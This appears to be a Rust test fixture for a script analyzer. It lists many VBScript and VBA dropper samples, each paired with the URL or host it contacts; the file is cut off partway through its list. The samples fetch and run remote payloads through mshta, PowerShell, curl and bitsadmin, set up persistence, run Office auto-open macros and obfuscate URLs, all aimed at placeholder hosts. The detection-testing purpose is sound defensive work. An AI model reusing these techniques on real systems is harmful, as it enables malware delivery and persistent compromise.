//! Scripts of Visual Basic in the manners of droppers, each with what it contacts: URLs, or hosts
//! with their ports.

use super::run;
use crate::told::contacts;

/// Script and contacts.
const FORMS: &[(&str, &[&str])] = &[
    (
        "Dim u : u = \"http://192.0.2.10/a.sct\"\nSet o = GetObject(\"script:\" & u)\no.Exec\n",
        &["http://192.0.2.10/a.sct"],
    ),
    ("Set o = GetObject(\"scrIPt:https://example.com/x\")\n", &["https://example.com/x"]),
    (
        "Class Loader\n  Private m_url\n  Public Property Let Url(v)\n    m_url = v\n  End Property\n  Public Property Get Url\n    Url = m_url\n  End Property\n  Private Sub Class_Initialize\n    m_url = \"http://192.0.2.11/\"\n  End Sub\n  Public Function Go(f)\n    Dim h\n    Set h = CreateObject(\"MSXML2.XMLHTTP.3.0\")\n    h.open \"GET\", m_url & f, False\n    h.send\n    Go = h.responseBody\n  End Function\nEnd Class\nDim l : Set l = New Loader\nx = l.Go(\"a.exe\")\n",
        &["http://192.0.2.11/a.exe"],
    ),
    (
        "Set re = New RegExp\nre.Pattern = \"[#@]\"\nre.Global = True\nu = re.Replace(\"h#t@tp:#//19@2.0.2.1#2/r\", \"\")\nWith CreateObject(\"WinHttp.WinHttpRequest.5.1\")\n.Open \"GET\", u, False\n.Send\nEnd With\n",
        &["http://192.0.2.12/r"],
    ),
    (
        "Set re = New RegExp\nre.Pattern = \"(\\d+)-\"\nre.Global = True\nFor Each m In re.Execute(\"104-116-116-112-58-47-47-49-57-50-46-48-46-50-46-49-51-47-114-\")\n  s = s & Chr(m.SubMatches(0))\nNext\nSet h = CreateObject(\"Microsoft.XMLHTTP\")\nh.Open \"GET\", s, 0\nh.Send\n",
        &["http://192.0.2.13/r"],
    ),
    (
        "Set d = CreateObject(\"Scripting.Dictionary\")\nd.Add \"a\", \"http://\"\nd.Add \"b\", \"192.0.2.14\"\nd(\"c\") = \"/d\"\nFor Each k In d.Keys\n  u = u & d.Item(k)\nNext\nSet h = CreateObject(\"Msxml2.ServerXMLHTTP.6.0\")\nh.Open \"GET\", u, False\nh.Send \"\"\n",
        &["http://192.0.2.14/d"],
    ),
    (
        "Set l = CreateObject(\"System.Collections.ArrayList\")\nl.Add \"al\"\nl.Add \"192.0.2.15/\"\nl.Add \"http://\"\nl.Reverse\nu = Join(l.ToArray(), \"\")\nCreateObject(\"WScript.Shell\").Run \"curl \" & u, 0\n",
        &["http://192.0.2.15/al"],
    ),
    (
        "Function Base64Decode(ByVal vCode)\n    Dim oXML, oNode\n    Set oXML = CreateObject(\"Msxml2.DOMDocument.3.0\")\n    Set oNode = oXML.CreateElement(\"base64\")\n    oNode.dataType = \"bin.base64\"\n    oNode.text = vCode\n    Base64Decode = Stream_BinaryToString(oNode.nodeTypedValue)\n    Set oNode = Nothing\n    Set oXML = Nothing\nEnd Function\nFunction Stream_BinaryToString(Binary)\n  Const adTypeText = 2\n  Const adTypeBinary = 1\n  Dim BinaryStream\n  Set BinaryStream = CreateObject(\"ADODB.Stream\")\n  BinaryStream.Type = adTypeBinary\n  BinaryStream.Open\n  BinaryStream.Write Binary\n  BinaryStream.Position = 0\n  BinaryStream.Type = adTypeText\n  BinaryStream.CharSet = \"us-ascii\"\n  Stream_BinaryToString = BinaryStream.ReadText\nEnd Function\nu = Base64Decode(\"aHR0cDovLzE5Mi4wLjIuMTYvYjY0\")\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\nx.open \"GET\", u, False\nx.send\n",
        &["http://192.0.2.16/b64"],
    ),
    (
        "Set d = CreateObject(\"MSXML2.DOMDocument\")\nSet e = d.createElement(\"x\")\ne.dataType = \"bin.hex\"\ne.text = \"687474703a2f2f3139322e302e322e31372f68\"\nb = e.nodeTypedValue\nSet s = CreateObject(\"ADODB.Stream\")\ns.Type = 1: s.Open: s.Write b: s.Position = 0: s.Type = 2: s.Charset = \"utf-8\"\nu = s.ReadText: s.Close\nWith CreateObject(\"MSXML2.XMLHTTP\"): .Open \"GET\", u, False: .Send: End With\n",
        &["http://192.0.2.17/h"],
    ),
    (
        "Const HIDDEN_WINDOW = 0\nstrComputer = \".\"\nSet objWMIService = GetObject(\"winmgmts:\\\\\" & strComputer & \"\\root\\cimv2\")\nSet objStartup = objWMIService.Get(\"Win32_ProcessStartup\")\nSet objConfig = objStartup.SpawnInstance_\nobjConfig.ShowWindow = HIDDEN_WINDOW\nSet objProcess = GetObject(\"winmgmts:root\\cimv2:Win32_Process\")\nerrReturn = objProcess.Create(\"powershell -c iwr http://192.0.2.18/w -o w.exe\", null, objConfig, intProcessID)\n",
        &["http://192.0.2.18/w"],
    ),
    (
        "Set l = CreateObject(\"WbemScripting.SWbemLocator\")\nSet s = l.ConnectServer(\".\", \"root\\cimv2\")\nSet p = s.Get(\"Win32_Process\")\nSet m = p.Methods_(\"Create\").InParameters.SpawnInstance_\nm.CommandLine = \"mshta http://192.0.2.19/w\"\np.ExecMethod_ \"Create\", m\n",
        &["http://192.0.2.19/w"],
    ),
    (
        "Const HKCU = &H80000001\nSet r = GetObject(\"winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\default:StdRegProv\")\nr.CreateKey HKCU, \"Software\\Up\"\nr.SetStringValue HKCU, \"Software\\Microsoft\\Windows\\CurrentVersion\\Run\", \"Up\", \"mshta http://192.0.2.20/w\"\n",
        &["http://192.0.2.20/w"],
    ),
    (
        "Set s = CreateObject(\"Shell.Application\")\ns.ShellExecute \"powershell.exe\", \"-nop -w hidden -c \"\"iex (irm http://192.0.2.21/w)\"\"\", \"\", \"open\", 0\n",
        &["http://192.0.2.21/w"],
    ),
    (
        "Set s = GetObject(\"new:13709620-C279-11CE-A49E-444553540000\")\ns.ShellExecute \"cmd.exe\", \"/c curl http://192.0.2.22/w -o w.exe & w.exe\", \"C:\\Windows\\System32\", Null, 0\n",
        &["http://192.0.2.22/w"],
    ),
    (
        "Set s = GetObject(\"new:{F935DC22-1CF0-11D0-ADB9-00C04FD58A0B}\")\ns.Run \"mshta http://192.0.2.23/w\"\n",
        &["http://192.0.2.23/w"],
    ),
    (
        "Set service = CreateObject(\"Schedule.Service\")\nservice.Connect\nSet rootFolder = service.GetFolder(\"\\\")\nSet taskDefinition = service.NewTask(0)\nSet regInfo = taskDefinition.RegistrationInfo\nregInfo.Description = \"x\"\nSet triggers = taskDefinition.Triggers\nSet trigger = triggers.Create(1)\ntrigger.StartBoundary = \"2026-01-01T00:00:00\"\nSet Action = taskDefinition.Actions.Create(0)\nAction.Path = \"mshta.exe\"\nAction.Arguments = \"http://192.0.2.24/w\"\nrootFolder.RegisterTaskDefinition \"Up\", taskDefinition, 6, , , 3\n",
        &["http://192.0.2.24/w"],
    ),
    (
        "Set ie = CreateObject(\"InternetExplorer.Application\")\nie.Visible = 0\nie.Navigate2 \"http://192.0.2.25/w\"\nDo Until ie.ReadyState = 4 : WScript.Sleep 10 : Loop\nt = ie.Document.Body.InnerHTML\n",
        &["http://192.0.2.25/w"],
    ),
    (
        "a = \"Set h = CreateObject(\"\"MSXML2.XMLHTTP\"\")\" & vbCrLf & \"h.Open \"\"GET\"\", u, False\" & vbCrLf & \"h.Send\"\nExecute \"u = \"\"http://192.0.2.26/w\"\"\"\nExecuteGlobal a\n",
        &["http://192.0.2.26/w"],
    ),
    (
        "Execute(Chr(117)&Chr(61)&Chr(34)&Chr(104)&Chr(116)&Chr(116)&Chr(112)&Chr(58)&Chr(47)&Chr(47)&\"192.0.2.27/w\"&Chr(34))\nCreateObject(\"WScript.Shell\").Run \"mshta \" & u\n",
        &["http://192.0.2.27/w"],
    ),
    (
        "Set h = Eval(\"CreateObject(\"\"MSXML2.XMLHTTP\"\")\")\nEval(\"h.Open(\"\"GET\"\", \"\"http://192.0.2.28/w\"\", False)\")\nh.Send\n",
        &["http://192.0.2.28/w"],
    ),
    (
        "Function Dl(u)\n Set h = CreateObject(\"MSXML2.XMLHTTP\")\n h.Open \"GET\", u, False\n h.Send\nEnd Function\nSet f = GetRef(\"Dl\")\nf \"http://192.0.2.29/w\"\n",
        &["http://192.0.2.29/w"],
    ),
    (
        "Set sc = CreateObject(\"MSScriptControl.ScriptControl\")\nsc.Language = \"JScript\"\nsc.AddCode \"function d(s){return s.split('').reverse().join('');}\"\nu = sc.Run(\"d\", \"w/03.2.0.291//:ptth\")\nCreateObject(\"WScript.Shell\").Run \"mshta \" & u\n",
        &["http://192.0.2.30/w"],
    ),
    (
        "Set sc = CreateObject(\"ScriptControl\")\nsc.Language = \"JScript\"\nu = sc.Eval(\"'ht'+'tp://192.0.2.31/w'\")\nCreateObject(\"WScript.Shell\").Run \"curl \" & u\n",
        &["http://192.0.2.31/w"],
    ),
    (
        "Set d = CreateObject(\"htmlfile\")\nd.parentWindow.execScript \"var u = unescape('http%3A//192.0.2.32/w');\", \"JScript\"\nu = d.parentWindow.u\nCreateObject(\"WScript.Shell\").Run \"mshta \" & u\n",
        &["http://192.0.2.32/w"],
    ),
    (
        "Set t = CreateObject(\"System.Security.Cryptography.FromBase64Transform\")\nSet e = CreateObject(\"System.Text.UTF8Encoding\")\nb = e.GetBytes_4(\"aHR0cDovLzE5Mi4wLjIuMzMvdw==\")\nr = t.TransformFinalBlock((b), 0, LenB(b))\nu = e.GetString((r))\nCreateObject(\"WScript.Shell\").Run \"mshta \" & u\n",
        &["http://192.0.2.33/w"],
    ),
    (
        "Set x = CreateObject(\"Microsoft.XMLDOM\")\nx.async = False\nx.load \"http://192.0.2.34/w.xsl\"\nx.transformNode x\n",
        &["http://192.0.2.34/w.xsl"],
    ),
    (
        "s = \"<?xml version='1.0'?><stylesheet xmlns=\"\"http://www.w3.org/1999/XSL/Transform\"\" xmlns:ms=\"\"urn:schemas-microsoft-com:xslt\"\" xmlns:user=\"\"p\"\" version=\"\"1.0\"\"><output method=\"\"text\"\"/><ms:script implements-prefix=\"\"user\"\" language=\"\"JScript\"\"><![CDATA[var r = new ActiveXObject(\"\"WScript.Shell\"\").Run(\"\"mshta http://192.0.2.35/w\"\");]]></ms:script></stylesheet>\"\nSet x = CreateObject(\"Microsoft.XMLDOM\")\nx.async = False\nx.loadXML s\nx.transformNode x\n",
        &["http://192.0.2.35/w"],
    ),
    (
        "Set e = CreateObject(\"Excel.Application\")\ne.DisplayAlerts = False\ne.DDEInitiate \"cmd\", \"/c mshta http://192.0.2.36/w\"\n",
        &["http://192.0.2.36/w"],
    ),
    (
        "Set e = CreateObject(\"Excel.Application\")\ne.Workbooks.Open \"http://192.0.2.37/w.xls\"\n",
        &["http://192.0.2.37/w.xls"],
    ),
    (
        "Set e = CreateObject(\"Word.Application\")\ne.Documents.Open \"http://192.0.2.38/w.doc\"\n",
        &["http://192.0.2.38/w.doc"],
    ),
    (
        "Set e = CreateObject(\"Excel.Application\")\ne.ExecuteExcel4Macro \"EXEC(\"\"mshta http://192.0.2.39/w\"\")\"\n",
        &["http://192.0.2.39/w"],
    ),
    (
        "Set m = CreateObject(\"MMC20.Application\")\nm.Document.ActiveView.ExecuteShellCommand \"cmd\", \"c:\\\", \"/c mshta http://192.0.2.40/w\", \"7\"\n",
        &["http://192.0.2.40/w"],
    ),
    (
        "Set w = GetObject(\"new:9BA05972-F6A8-11CF-A442-00A0C90A8F39\")\nw.Item.Document.Application.ShellExecute \"mshta.exe\", \"http://192.0.2.41/w\", \"\", Null, 0\n",
        &["http://192.0.2.41/w"],
    ),
    (
        "Set s = CreateObject(\"WScript.Shell\")\nSet x = s.Exec(\"cmd /c curl http://192.0.2.42/w\")\nt = x.StdOut.ReadAll\n",
        &["http://192.0.2.42/w"],
    ),
    (
        "Set s = CreateObject(\"WScript.Shell\")\ns.Environment(\"PROCESS\")(\"U\") = \"http://192.0.2.43/w\"\ns.Run \"cmd /c mshta %U%\", 0\n",
        &["http://192.0.2.43/w"],
    ),
    (
        "Set h = CreateObject(\"WinHttp.WinHttpRequest.5\")\nh.Option(4) = 13056\nh.SetTimeouts 0, 0, 0, 0\nh.Open \"GET\", \"https://192.0.2.46/w\", True\nh.SetRequestHeader \"User-Agent\", \"Mozilla/4.0 (compatible; MSIE 6.0; http://www.example.com/bot)\"\nh.Send\nh.WaitForResponse 10\nIf h.Status = 200 Then ExecuteGlobal h.ResponseText\n",
        &["https://192.0.2.46/w"],
    ),
    (
        "On Error Resume Next\nhosts = Array(\"http://192.0.2.47/w\", \"http://192.0.2.47/w2\")\nFor i = 0 To UBound(hosts)\n  Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\n  h.Open \"GET\", hosts(i), False\n  h.Send\n  If Err.Number = 0 And h.Status = 200 Then Exit For\n  Err.Clear\nNext\n",
        &["http://192.0.2.47/w", "http://192.0.2.47/w2"],
    ),
    (
        "host = \"192.0.2.48\"\nport = 1177\ninstalldir = \"%temp%\"\nspliter = \"<|>\"\ndim shellobj\nset shellobj = wscript.createobject(\"wscript.shell\")\ndim filesystemobj\nset filesystemobj = createobject(\"scripting.filesystemobject\")\ndim httpobj\nset httpobj = createobject(\"msxml2.xmlhttp\")\ninstallname = wscript.scriptname\non error resume next\nwhile true\nresponse = \"\"\nresponse = post (\"is-ready\",\"\")\ncmd = split (response,spliter)\nselect case cmd (0)\ncase \"excecute\"\n      param = cmd (1)\n      execute param\nend select\nwscript.sleep 5000\nwend\nfunction post (cmd ,param)\npost = param\nhttpobj.open \"post\",\"http://\" & host & \":\" & port &\"/\" & cmd, false\nhttpobj.setrequestheader \"user-agent:\",\"x\"\nhttpobj.send param\npost = httpobj.responsetext\nend function\n",
        &["http://192.0.2.48:1177/is-ready"],
    ),
    (
        "x = \"p\" & Replace(\"owXXershXXell\", \"XX\", \"\") & \" -c \"\"iwr http://192.0.2.49/w\"\"\"\nCreateObject(StrReverse(\"llehS.tpircSW\")).Run x, 0, False\n",
        &["http://192.0.2.49/w"],
    ),
    (
        "a=Split(\"104!116!116!112!58!47!47!49!57!50!46!48!46!50!46!53!48!47!119\",\"!\")\nFor Each c In a:u=u & ChrW(c):Next\nWith CreateObject(\"MSXML2.XMLHTTP.6.0\")\n    .open \"GET\",u,False\n    .send\n    If .status=200 Then b=.responseBody\nEnd With\n",
        &["http://192.0.2.50/w"],
    ),
    (
        "Function D(s)\n Dim i, c\n For i = 1 To Len(s)\n  c = Mid(s, i, 1)\n  Select Case c\n   Case \"~\": D = D & \"/\"\n   Case \"!\" : D = D & \":\"\n   Case Else: D = D & c\n  End Select\n Next\nEnd Function\nCreateObject(\"WScript.Shell\").Run \"curl \" & D(\"http!~~192.0.2.51~w\")\n",
        &["http://192.0.2.51/w"],
    ),
    (
        "k = \"key\"\nh = \"03110d1b5f5644574b595c4b594b574e594e0e\"\nh = \"030d0d1b4356445c4b594b554b595554594b560e\"\nu = \"http://192.0.2.52/w\"\ne = \"\"\nFor i = 1 To Len(u)\n e = e & Right(\"0\" & Hex(Asc(Mid(u,i,1)) Xor Asc(Mid(k,((i-1) Mod Len(k))+1,1))),2)\nNext\nd = \"\"\nFor i = 1 To Len(e) Step 2\n d = d & Chr(CByte(\"&h\" & Mid(e,i,2)) Xor Asc(Mid(k,(((i-1)\\2) Mod Len(k))+1,1)))\nNext\nCreateObject(\"WScript.Shell\").Run \"curl \" & d\n",
        &["http://192.0.2.52/w"],
    ),
    (
        "Set s = CreateObject(\"WScript.Shell\")\ns.Run(\"bitsadmin.exe /transfer \"\"Job\"\" http://192.0.2.57/w \" & s.ExpandEnvironmentStrings(\"%TEMP%\") & \"\\w.exe\"), 0, True\n",
        &["http://192.0.2.57/w"],
    ),
    (
        "u = \"\"\nFor Each x In Split(\"&H68 &H74 &H74 &H70 &H3a &H2f &H2f\", \" \")\n u = u & Chr(x)\nNext\nu = u & \"192.0.2.58/w\"\nSet o = CreateObject(\"Microsoft.XMLHTTP\")\no.open \"GET\", u, false\no.send()\n",
        &["http://192.0.2.58/w"],
    ),
    (
        "If CreateObject(\"Scripting.FileSystemObject\").FolderExists(\"C:\\vmware\") Then WScript.Quit\nSet w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nFor Each p In w.ExecQuery(\"Select * from Win32_Process\")\n If LCase(p.Name) = \"wireshark.exe\" Then WScript.Quit\nNext\nIf Day(Now) > 40 Then WScript.Quit\nIf WScript.Arguments.Count = 0 Then\n CreateObject(\"WScript.Shell\").Run \"curl http://192.0.2.59/w\"\nEnd If\n",
        &["http://192.0.2.59/w"],
    ),
    (
        "Set s = CreateObject(\"WScript.Shell\")\ns.RegWrite \"HKCU\\Software\\Upd\\x\", \"http://192.0.2.60/w\", \"REG_SZ\"\nu = s.RegRead(\"HKCU\\Software\\Upd\\x\")\nSet h = CreateObject(\"MSXML2.XMLHTTP\") : h.open \"GET\", u, False : h.send\n",
        &["http://192.0.2.60/w"],
    ),
    (
        "Sub Build(ByRef r, ByVal p)\n r = r & p\nEnd Sub\nDim u\nBuild u, \"http://\"\nBuild u, \"192.0.2.61\"\nCall Build(u, \"/w\")\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nCall h.Open(\"GET\", u, False)\nCall h.Send()\n",
        &["http://192.0.2.61/w"],
    ),
    (
        "Attribute VB_Name = \"ThisDocument\"\nPrivate Declare PtrSafe Function URLDownloadToFile Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal pCaller As Long, ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As Long) As Long\nSub AutoOpen()\n    Dim x As Long\n    x = URLDownloadToFile(0, \"http://192.0.2.62/w\", Environ(\"TEMP\") & \"\\w.exe\", 0, 0)\n    Shell Environ(\"TEMP\") & \"\\w.exe\", vbHide\nEnd Sub\n",
        &["http://192.0.2.62/w"],
    ),
    (
        "Sub Document_Open()\n    Dim s As String\n    s = \"pow\" & \"ershell -c iwr http://192.0.2.63/w -o w.exe\"\n    Call Shell(s, 0)\nEnd Sub\n",
        &["http://192.0.2.63/w"],
    ),
    (
        "Sub Workbook_Open()\n Dim o As Object\n Set o = CreateObject(\"MSXML2.XMLHTTP\")\n CallByName o, \"Open\", VbMethod, \"GET\", \"http://192.0.2.64/w\", False\n CallByName o, \"send\", VbMethod\nEnd Sub\n",
        &["http://192.0.2.64/w"],
    ),
    (
        "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://192.0.2.70/w\", False\nh.Send\nExecute h.responseText\n",
        &["http://192.0.2.70/w"],
    ),
    (
        "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://192.0.2.71/w\", False\nh.Send\np = Split(h.responseText, \"|\")\nIf UBound(p) > 0 Then\n ExecuteGlobal p(1)\nEnd If\n",
        &["http://192.0.2.71/w"],
    ),
    (
        "c = \"$c1='(New-Object Net.We'; $c4='bClient).Downlo'; $c3='adString(''http://192.0.2.72/w'')';$TC=I`E`X ($c1,$c4,$c3 -Join '')|I`E`X\"\nCreateObject(\"WScript.Shell\").Run \"powershell -c \"\"\" & c & \"\"\"\", 0\n",
        &["http://192.0.2.72/w"],
    ),
    (
        "Rem x\na=\"ht\":b=\"tp://192.0.2.74\":' note\nc=\"/w\":Set h=CreateObject(\"MSXML2.XMLHTTP\"):h.Open\"GET\",a&b&c,0:h.Send\n",
        &["http://192.0.2.74/w"],
    ),
    (
        "Const A = \"http://\", _\n      B = \"192.0.2.75\"\nDim u : u = A _\n  & B _\n  & \"/w\"\nCreateObject(\"WScript.Shell\").Run \"curl.exe \" & u\n",
        &["http://192.0.2.75/w"],
    ),
    (
        "Dim m()\nReDim m(2)\nm(0) = \"http://\": m(1) = \"192.0.2.76\"\nReDim Preserve m(3)\nm(2) = \"/\": m(3) = \"w\"\nCreateObject(\"WScript.Shell\").Run \"curl.exe \" & Join(m, \"\")\n",
        &["http://192.0.2.76/w"],
    ),
    (
        "s = \"w/77.2.0.291//:ptth\"\nFor i = Len(s) To 1 Step -1 : u = u & Mid(s, i, 1) : Next\np = InStr(u, \"//\")\nCreateObject(\"WScript.Shell\").Run \"curl.exe \" & Left(u, p + 1) & Mid(u, p + 2)\n",
        &["http://192.0.2.77/w"],
    ),
    (
        "i = 0\nDo\n i = i + 1\n If i > 5 Then Exit Do\n u = u & Chr(Asc(Mid(\"iuuq;\", i, 1)) - 1)\nLoop Until False\nCreateObject(\"WScript.Shell\").Run \"curl.exe \" & u & \"//192.0.2.78/w\"\n",
        &["http://192.0.2.78/w"],
    ),
    (
        "Set s = CreateObject(\"Shell.Application\")\ns.Open \"http://192.0.2.79/w\"\n",
        &["http://192.0.2.79/w"],
    ),
    (
        "CreateObject(\"Shell.Application\").ShellExecute \"http://192.0.2.80/w\"\n",
        &["http://192.0.2.80/w"],
    ),
    ("CreateObject(\"WScript.Shell\").Run \"http://192.0.2.81/w\"\n", &["http://192.0.2.81/w"]),
    (
        "Set s = CreateObject(\"WScript.Shell\")\nSet l = s.CreateShortcut(s.SpecialFolders(\"Startup\") & \"\\u.lnk\")\nl.TargetPath = \"mshta.exe\"\nl.Arguments = \"http://192.0.2.82/w\"\nl.Save\n",
        &["http://192.0.2.82/w"],
    ),
    (
        "Set s = CreateObject(\"WScript.Shell\")\nSet l = s.CreateShortcut(s.SpecialFolders(\"Desktop\") & \"\\u.url\")\nl.TargetPath = \"http://192.0.2.83/w\"\nl.Save\n",
        &["http://192.0.2.83/w"],
    ),
    (
        "Set o = GetObject(\"winmgmts:root\\subscription\")\nSet c = o.Get(\"CommandLineEventConsumer\").SpawnInstance_\nc.Name = \"x\"\nc.CommandLineTemplate = \"mshta http://192.0.2.84/w\"\nc.Put_\n",
        &["http://192.0.2.84/w"],
    ),
    (
        "Set o = GetObject(\"winmgmts:root\\subscription\")\nSet c = o.Get(\"ActiveScriptEventConsumer\").SpawnInstance_\nc.Name = \"x\"\nc.ScriptingEngine = \"VBScript\"\nc.ScriptText = \"Set h = CreateObject(\"\"MSXML2.XMLHTTP\"\"): h.Open \"\"GET\"\", \"\"http://192.0.2.85/\"\" & \"\"w\"\", False: h.Send\"\nc.Put_\n",
        &["http://192.0.2.85/w"],
    ),
    (
        "Set s = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nSet i = s.Get(\"Win32_Process\").Methods_(\"Create\").inParameters.SpawnInstance_()\ni.Properties_.Item(\"CommandLine\") = \"mshta http://192.0.2.86/w\"\nSet o = s.ExecMethod(\"Win32_Process\", \"Create\", i)\n",
        &["http://192.0.2.86/w"],
    ),
    (
        "Set s = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nSet j = s.Get(\"Win32_ScheduledJob\")\nj.Create \"mshta http://192.0.2.87/w\", \"********143000.000000-420\", True, , , , 1\n",
        &["http://192.0.2.87/w"],
    ),
    (
        "Set s = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nFor Each p In s.ExecQuery(\"select * from Win32_PingStatus where address = 'c2.example.com'\")\nNext\n",
        &["c2.example.com"],
    ),
    (
        "Set m = CreateObject(\"CDO.Message\")\nm.From = \"a@example.com\"\nm.To = \"b@example.com\"\nm.TextBody = \"x\"\nm.Configuration.Fields.Item(\"http://schemas.microsoft.com/cdo/configuration/sendusing\") = 2\nm.Configuration.Fields.Item(\"http://schemas.microsoft.com/cdo/configuration/smtpserver\") = \"mail.example.com\"\nm.Configuration.Fields.Item(\"http://schemas.microsoft.com/cdo/configuration/smtpserverport\") = 587\nm.Configuration.Fields.Update\nm.Send\n",
        &["mail.example.com:587"],
    ),
    (
        "Set w = CreateObject(\"MSWinsock.Winsock\")\nw.RemoteHost = \"192.0.2.88\"\nw.RemotePort = 5555\nw.Connect\n",
        &["192.0.2.88:5555"],
    ),
    (
        "Set w = CreateObject(\"System.Net.WebClient\")\nx = w.DownloadString(\"http://192.0.2.89/w\")\n",
        &["http://192.0.2.89/w"],
    ),
    (
        "Set x = CreateObject(\"MSXML2.DOMDocument.6.0\")\nx.async = False\nIf x.Load(\"http://192.0.2.90/w.xml\") Then\n Execute x.selectSingleNode(\"//c\").Text\nEnd If\n",
        &["http://192.0.2.90/w.xml"],
    ),
    (
        "Set s = CreateObject(\"ADODB.Stream\")\ns.Open \"URL=http://192.0.2.91/w\"\ns.Type = 1\n",
        &["http://192.0.2.91/w"],
    ),
    (
        "Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"Provider=SQLOLEDB;Data Source=192.0.2.92;Initial Catalog=x;User ID=a;Password=b;\"\n",
        &["192.0.2.92"],
    ),
    (
        "Set h = CreateObject(\"htmlfile\")\nh.write \"<script>function d(s){return unescape(s);}</script>\"\nu = h.parentWindow.d(\"http%3a%2f%2f192.0.2.93%2fw\")\nCreateObject(\"WScript.Shell\").Run \"curl \" & u\n",
        &["http://192.0.2.93/w"],
    ),
    (
        "Function B2S(b)\n Dim i\n For i = 1 To LenB(b)\n  B2S = B2S & Chr(AscB(MidB(b, i, 1)))\n Next\nEnd Function\nSet d = CreateObject(\"Msxml2.DOMDocument\").CreateElement(\"e\")\nd.DataType = \"bin.base64\"\nd.Text = \"aHR0cDovLzE5Mi4wLjIuOTQvdw==\"\nCreateObject(\"WScript.Shell\").Run \"mshta \" & B2S(d.NodeTypedValue)\n",
        &["http://192.0.2.94/w"],
    ),
    (
        "Function BinaryToString(xBinary)\n  Dim Binary\n  If vartype(xBinary)=8 Then Binary = MultiByteToBinary(xBinary) Else Binary = xBinary\n  Dim RS, LBinary\n  Const adLongVarChar = 201\n  Set RS = CreateObject(\"ADODB.Recordset\")\n  LBinary = LenB(Binary)\n  If LBinary>0 Then\n    RS.Fields.Append \"mBinary\", adLongVarChar, LBinary\n    RS.Open\n    RS.AddNew\n      RS(\"mBinary\").AppendChunk Binary\n    RS.Update\n    BinaryToString = RS(\"mBinary\")\n  Else\n    BinaryToString = \"\"\n  End If\nEnd Function\nSet d = CreateObject(\"Msxml2.DOMDocument\").CreateElement(\"e\")\nd.DataType = \"bin.base64\"\nd.Text = \"aHR0cDovLzE5Mi4wLjIuOTUvdw==\"\nCreateObject(\"WScript.Shell\").Run \"mshta \" & BinaryToString(d.NodeTypedValue)\n",
        &["http://192.0.2.95/w"],
    ),
    (
        "Function RC4(t, k)\n Dim s(255), kk(255), i, j, x, y, z, o\n For i = 0 To 255\n  s(i) = i\n  kk(i) = Asc(Mid(k, (i Mod Len(k)) + 1, 1))\n Next\n j = 0\n For i = 0 To 255\n  j = (j + s(i) + kk(i)) Mod 256\n  x = s(i): s(i) = s(j): s(j) = x\n Next\n i = 0: j = 0\n For z = 1 To Len(t)\n  i = (i + 1) Mod 256\n  j = (j + s(i)) Mod 256\n  x = s(i): s(i) = s(j): s(j) = x\n  o = o & Chr(s((s(i) + s(j)) Mod 256) Xor Asc(Mid(t, z, 1)))\n Next\n RC4 = o\nEnd Function\nc = RC4(\"http://192.0.2.96/w\", \"secret\")\nCreateObject(\"WScript.Shell\").Run \"mshta \" & RC4(c, \"secret\")\n",
        &["http://192.0.2.96/w"],
    ),
    (
        "Set f = CreateObject(\"Scripting.FileSystemObject\")\nSet t = f.OpenTextFile(WScript.ScriptFullName, 1)\na = t.ReadAll\nt.Close\np = InStrRev(a, \"'#\")\nExecute StrReverse(Mid(a, p + 2))\n'#)\"w/79.2.0.291//:ptth athsm\"(nuR.)\"llehS.tpircSW\"(tcejbOetaerC\n",
        &["http://192.0.2.97/w"],
    ),
    (
        "Set f = CreateObject(\"Scripting.FileSystemObject\").GetFile(WScript.ScriptFullName).OpenAsTextStream(1)\nDo Until f.AtEndOfStream\n l = f.ReadLine\n If Left(l, 3) = \"'@@\" Then u = Mid(l, 4)\nLoop\nCreateObject(\"WScript.Shell\").Run \"curl \" & u\n'@@http://192.0.2.98/w\n",
        &["http://192.0.2.98/w"],
    ),
    (
        "' http://www.example.com/license\n' Microsoft sample see http://go.example.com/fwlink\nCreateObject(\"WScript.Shell\").Run \"curl http://192.0.2.99/w\"\n",
        &["http://192.0.2.99/w"],
    ),
    (
        "Class P\n Public Default Function X(i)\n  X = Array(\"http://\", \"192.0.2.100\", \"/w\")(i)\n End Function\nEnd Class\nSet p1 = New P\nCreateObject(\"WScript.Shell\").Run \"curl \" & p1(0) & p1(1) & p1(2)\n",
        &["http://192.0.2.100/w"],
    ),
    (
        "h = \"68747470\"\nFor i = 1 To Len(h) Step 2: u = u & Chr(CLng(\"&H\" & Mid(h, i, 2))): Next\nCreateObject(\"WScript.Shell\").Run \"curl \" & u & \":\" & String(2, \"/\") & \"192.0.2.101/w\"\n",
        &["http://192.0.2.101/w"],
    ),
    (
        "Set a = WScript.Arguments\nIf a.Count > 0 Then u = a(0) Else u = \"http://192.0.2.102/w\"\nCreateObject(\"WScript.Shell\").Run \"curl \" & u\n",
        &["http://192.0.2.102/w"],
    ),
    (
        "Set w = GetObject(\"winmgmts:\")\nFor Each o In w.InstancesOf(\"Win32_OperatingSystem\")\n v = o.Version\nNext\nIf InStr(v, \"6.1\") > 0 Then\n u = \"http://192.0.2.103/w\"\nElseIf InStr(v, \"5.1\") > 0 Then\n u = \"http://192.0.2.103/w\"\nElse\n u = \"http://192.0.2.103/w\"\nEnd If\nCreateObject(\"WScript.Shell\").Run \"curl \" & u\n",
        &["http://192.0.2.103/w"],
    ),
    (
        "Set l = CreateObject(\"System.Collections.SortedList\")\nl.Add 2, \"192.0.2.1/a\"\nl.Add 1, \"http://\"\nFor i = 0 To l.Count - 1\nu = u & l.GetByIndex(i)\nNext\nCreateObject(\"WScript.Shell\").Run \"mshta \" & u\n",
        &["http://192.0.2.1/a"],
    ),
    (
        "Set q = CreateObject(\"System.Collections.Queue\")\nq.Enqueue \"http://\": q.Enqueue \"192.0.2.2/b\"\nDo While q.Count > 0\nu = u & q.Dequeue()\nLoop\nCreateObject(\"WScript.Shell\").Run \"mshta \" & u\n",
        &["http://192.0.2.2/b"],
    ),
    (
